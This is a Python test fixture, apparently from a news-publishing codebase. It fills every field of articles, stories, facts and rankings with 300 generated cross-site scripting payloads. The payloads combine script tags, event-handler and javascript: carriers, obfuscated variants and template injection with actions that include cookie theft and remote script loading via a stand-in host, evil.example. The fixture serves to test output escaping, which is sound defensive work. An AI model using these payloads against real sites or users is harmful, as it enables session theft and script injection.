"""A newsroom whose every outside field carries a script that wants to run."""

from __future__ import annotations

from itertools import product

from shida.publish import Content, DropCount, SourceSummary
from shida.records import (
    Act,
    Article,
    Decision,
    Document,
    Edition,
    EditionEntry,
    Entry,
    Evidence,
    Fact,
    Figure,
    Item,
    Member,
    Moment,
    Notice,
    Ranking,
    Reason,
    Repair,
    Site,
    Story,
    TopList,
)
from shida.text.periods import parse_period

ACTS = (
    "hit(1)",
    "window.ran=1",
    "alert`1`",
    "fetch('//evil.example/'+document.cookie)",
    "location='//evil.example/'",
    "import('//evil.example/x.js')",
    "document.body.append('ran')",
    "eval('hit(2)')",
    "setTimeout('hit(3)')",
    "top.ran=1",
    "new Image().src='//evil.example/p'",
    "confirm(1)",
)
"""What a payload does when it runs: all of it can be seen from outside."""

CARRIERS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '<img src=x onerror="{}">',
    '" onmouseover="{}" autofocus onfocus="{}',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "javascript:{}",
    "JaVa\tScRiPt:{}",
    "data:text/html,<script>{}</script>",
    "</title><script>{}</script>",
    "</textarea></pre><script>{}</script>",
    "<!--><script>{}</script>",
    "]]><script>{}</script>",
    '<math><mi//xlink:href="javascript:{}">',
    '<a href="javascript:{}" id=x>x</a>',
    '<form action="javascript:{}"><button autofocus>x</button></form>',
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import '//evil.example/x.css'</style><script>{}</script>",
    "{{{{ self }}}}{{% include 'x' %}}<script>{}</script>",
    "\x00<scr\x00ipt>{}</scr\x00ipt>\u2028\u202e",
)
"""How it gets there: 12 × 25 = 300 payloads."""

PAYLOADS = tuple(carrier.format(*[act] * carrier.count("{}")) for carrier, act in product(CARRIERS, ACTS))


FIVES = tuple(PAYLOADS[start::60] for start in range(60))


def hostile_newsroom() -> Content:
    """One article, one story and two facts for each five payloads, which stand one after the other in every field."""
    articles: list[Article] = []
    stories: list[Story] = []
    facts: list[Fact] = []
    for number, five in enumerate(FIVES):
        bad = " ".join(five)
        name = f"{bad}#{number}"
        text = f"{bad}\n质量{bad}。"
        articles.append(
            Article(
                id=name,
                page=f"p{number}",
                kind="notice",
                title=bad,
                text=text,
                published="2026-11-20",
                published_how=bad,
                source=bad,
                author=bad,
                editor=bad,
                section=bad,
                language=bad,
                url=five[0] if number % 2 else f"https://x/{five[0]}",
                items=tuple(
                    Item(title=f"{bad}{place}", published=("2026-11-20", one)[place % 2], url=one)
                    for place, one in enumerate(five)
                ),
                lists=(TopList(name=bad, entries=(bad,), ranked=True),),
                site=Site(icp=bad, public_security_filing=bad),
                notice=Notice(issuer=bad, number=bad, index_number=bad),
                reader=bad,
                damage=bad,
                repairs=(
                    Repair(of="title", start=0, end=1, before=bad, rule=bad, how="chosen", runner_up=bad),
                    Repair(of="text", start=0, end=3, before=bad, rule=bad, how="proved"),
                    Repair(of="text", start=4, end=len(text), before=bad, rule=bad, how="gap"),
                ),
                flags=(bad,),
            )
        )
        story = Story(
            id=f"story {name}",
            title=bad,
            lead=bad + "l",
            first="2026-11-19",
            last="2026-11-20",
            members=(
                Member(article=name, title=bad, published="2026-11-20", source=bad, joined=bad),
                Member(article=f"copy {name}", title=bad, published=bad, source=bad, copy_of=name, copy_how="near"),
            ),
            timeline=(
                Moment(date="2026-11-20", sentence=bad, article=name),
                Moment(date=bad, sentence=bad, article="?"),
            ),
            fields=(bad,),
            aliases=(f"old {name}",),
        )
        stories.append(story)
        said = (Evidence(article=name, of="text", start=2, end=len(text) - 2, sentence=text[2:-2]),)
        facts.append(
            Document(
                id=bad,
                title=bad,
                document_kind=bad,
                number=bad,
                issuers=(bad,),
                drafters=(bad,),
                issuer_count=3,
                acts=(Act(act=bad, date=bad), Act(act=bad)),
                status=bad,
                effective=bad,
                period=(bad, bad),
                occasion=bad,
                rule=bad,
                reported="2026-11-20",
                evidence=said,
            )
        )
        facts.append(Figure(id=bad, what=bad, value=number, unit=bad, period=bad, as_of=bad, rule=bad, evidence=said))
    reasons = (Reason(signal=PAYLOADS[0], value=1, weight=1, sentence=PAYLOADS[3]),)
    rankings = {}
    for at in range(0, len(stories), 10):
        area = PAYLOADS[at]
        entries = tuple(
            Entry(
                rank=place,
                story=story.id,
                title=story.title,
                score=1,
                articles=(story.members[0].article,),
                reasons=tuple(Reason(signal=bad, value=1, weight=1, sentence=bad) for bad in (story.title, area)),
            )
            for place, story in enumerate(stories[at : at + 10], 1)
        )
        rankings["2026", area] = Ranking(
            period=parse_period("2026"),
            field=area,
            list=area,
            as_of=area,
            entries=entries,
            considered=1,
            formula=area,
            next=Entry(rank=11, story="?", title=area, score=0, articles=(), reasons=reasons),
        )
    editions = [
        Edition(
            id=bad,
            name=bad,
            period=parse_period("2026"),
            field=bad,
            as_of=bad,
            state="corrected",
            version=version,
            entries=(EditionEntry(place=1, story=stories[at].id, title=f"{bad}{version}", lead=bad),),
            decisions=(Decision(step=bad, by=bad, on=bad, reason=bad),),
        )
        for at, bad in enumerate(PAYLOADS[::12])
        for version in (1, 2)
    ]
    return Content(
        articles=articles,
        stories=stories,
        facts=facts,
        rankings=rankings,
        editions=editions,
        dropped=[DropCount(stage=bad, reason=bad, count=1) for bad in PAYLOADS],
        sources=[SourceSummary(name=bad, note=bad, address=bad, first=bad, last=bad) for bad in PAYLOADS],
        page_bytes=lambda page: " ".join(FIVES[int(page[1:])]).encode(),
    )
